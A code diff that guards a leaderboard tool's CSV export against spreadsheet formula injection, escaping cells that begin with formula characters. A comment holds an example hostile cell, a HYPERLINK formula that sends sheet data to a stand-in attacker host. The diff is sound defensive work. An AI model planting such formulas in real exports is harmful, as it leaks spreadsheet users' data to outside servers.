@@ -123,6 +123,20 @@ def machine_rows(rows: list[dict[str, Any]], intervals: Intervals | None,
     return out
 
 
+# A spreadsheet opens a CSV cell that starts with one of these as a formula (tab and carriage return: some
+# strip them first); a model named '=HYPERLINK("https://evil.example/?"&B3, "details")' would send the
+# board's cells to a stranger's server from the sheet of whoever opens `glc leaderboard --format csv`
+# (the full-width forms: spreadsheets in East Asian locales read them as the ASCII ones)
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def csv_cell(value: Any) -> Any:
+    """``value`` as a CSV cell a spreadsheet shows as text: a text that would start a formula gets a
+    leading ``'`` (OWASP's advice, which spreadsheets hide); numbers and other text are unchanged
+    (``--format json`` keeps every name exact)."""
+    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value
+
+
 def _fmt(v: Any) -> str:
     if v is None:
         return "-"
@@ -141,7 +155,7 @@ def render(rows: list[dict[str, Any]], fmt: str, intervals: Intervals | None = N
         conf = intervals.confidence if intervals is not None else confidence
         writer = csv.DictWriter(buf, fieldnames=machine_fields(conf), lineterminator="\n")
         writer.writeheader()
-        writer.writerows(data)
+        writer.writerows({k: csv_cell(v) for k, v in row.items()} for row in data)
         return buf.getvalue().rstrip("\n")
     ci_head, ci_rows = interval_cells(rows, intervals)
     head = [*SHOWN, *ci_head]
